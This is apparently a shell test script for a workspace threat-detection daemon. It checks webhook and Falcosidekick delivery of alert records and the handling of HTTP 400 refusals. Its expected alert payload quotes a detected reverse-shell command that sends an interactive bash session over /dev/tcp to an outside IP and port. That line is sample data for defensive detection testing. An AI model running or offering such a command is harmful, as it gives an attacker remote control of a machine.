#!/bin/bash
# Webhook sinks against a local HTTP receiver: the plain webhook POSTs each threat record
# byte for byte (the URL's query string kept), the Falcosidekick mode POSTs Falcosidekick's
# input payload (exact for the reverse shell), and a receiver answering 400 makes the records
# count as failed without retries.
. "$(dirname "$0")/lib.sh"
need_jq
rules=$(stdlib_wtb)
EX="$WT_SRCDIR/examples/workspace-session.jsonl"
mkdir -p "$TMP/wh" "$TMP/fsk" "$TMP/bad"
start_receiver http wh "$TMP/wh"; WH=$RECV_PORT
start_receiver http fsk "$TMP/fsk"; FSK=$RECV_PORT
start_receiver http bad "$TMP/bad" 400; BAD=$RECV_PORT
"$WTD" --rules "$rules" --replay "$EX" --sink "webhook=http://127.0.0.1:$WH/hook?token=a%20b" \
	--sink "webhook-falcosidekick=http://127.0.0.1:$FSK/#hostname=test-host" \
	--sink "webhook=http://127.0.0.1:$BAD/#backoff_ms=10" >"$TMP/out" 2>"$TMP/err" || fail "worktraced exit status $?"
n=$(grep -c '' "$TMP/out")
grep -q " sink0_webhook_delivered=$n sink0_webhook_retried=0 sink0_webhook_failed=0 sink0_webhook_dropped=0 sink0_webhook_lost=0 sink1_webhook-falcosidekick_delivered=$n sink1_webhook-falcosidekick_retried=0 sink1_webhook-falcosidekick_failed=0 " "$TMP/err" &&
	pass "$n records delivered to both receivers" || fail "counters: $(grep -o ' sink0.*' "$TMP/err")"
for f in "$TMP"/wh/*.body; do cat "$f"; echo; done >"$TMP/wh.all"
cmp -s "$TMP/wh.all" "$TMP/out" && pass "webhook: one POST per record, bodies identical to the stdout records, in order" ||
	fail "webhook bodies differ from the records"
[ "$(sort -u "$TMP"/wh/*.meta)" = "/hook?token=a%20b application/json" ] && pass "webhook: URL query string and JSON content type kept" ||
	fail "webhook meta: $(sort -u "$TMP"/wh/*.meta)"
# Falcosidekick: its input payload (output, priority, rule, time, output_fields, source, tags, hostname)
shell=$(grep -l '"rule":"execution.reverse_shell_dev_tcp"' "$TMP"/fsk/*.body | head -1)
want='{"output":"10:51:16.530876629: Critical reverse shell via /dev/tcp: /bin/bash -c \"bash -i >& /dev/tcp/203.0.113.50/4444 0>&1\" (parent /tmp/.x.sh /tmp/.x.sh) in carol-web","priority":"Critical","rule":"execution.reverse_shell_dev_tcp","time":"2026-10-14T10:51:16.530876629Z","output_fields":{"evt.time":1791975076530876629,"k8s.ns.name":"ws-carol","k8s.pod.name":"ws-carol-c41a9e-0","container.name":"dev","container.image":"registry.example.com/devenv/python-go:2026.10","proc.exepath":"/bin/bash","proc.args":"-c \"bash -i >& /dev/tcp/203.0.113.50/4444 0>&1\"","proc.pexepath":"/tmp/.x.sh","proc.pid":65527,"user.uid":1000,"worktrace.workspace":"carol-web","worktrace.owner":"carol@example.com","worktrace.node":"gke-devpool-3b9e1c-node-7","worktrace.pipeline":"direct","worktrace.event_kind":"exec","worktrace.target":null,"worktrace.mitre":"T1059.004","worktrace.count":1,"worktrace.repeat":false},"source":"worktrace","tags":["execution","reverse-shell","dev-tcp","T1059.004"],"hostname":"test-host"}'
[ -n "$shell" ] && [ "$(cat "$shell")" = "$want" ] && pass "falcosidekick: exact payload for the reverse shell" ||
	{ fail "falcosidekick payload"; [ -n "$shell" ] && diff <(echo "$want") <(cat "$shell"; echo); }
prio=$(for f in "$TMP"/fsk/*.body; do jq -r '"\(.rule) \(.priority)"' "$f"; done | sort -u)
want_prio=$(jq -r '"\(.rule) \(.severity | {info: "Informational", low: "Notice", medium: "Warning", high: "Error", critical: "Critical"}[.])"' "$TMP/out" | sort -u)
[ "$prio" = "$want_prio" ] && pass "falcosidekick: every payload parses, priority mapped from severity" || fail "falcosidekick priorities"
# a receiver that refuses (HTTP 400): failed at once, no retry storm
grep -q " sink2_webhook_delivered=0 sink2_webhook_retried=0 sink2_webhook_failed=$n sink2_webhook_dropped=0 sink2_webhook_lost=$n" "$TMP/err" &&
	pass "HTTP 400: $n records failed, none retried" || fail "400 counters: $(grep -o ' sink2.*' "$TMP/err")"
grep -q "^worktraced: sink2_webhook: 1 record(s) refused, not retried: POST http://127.0.0.1:$BAD/: HTTP 400" "$TMP/err" &&
	pass "refusal reported with the HTTP status" || fail "refusal message: $(grep sink2 "$TMP/err" | head -2)"
finish
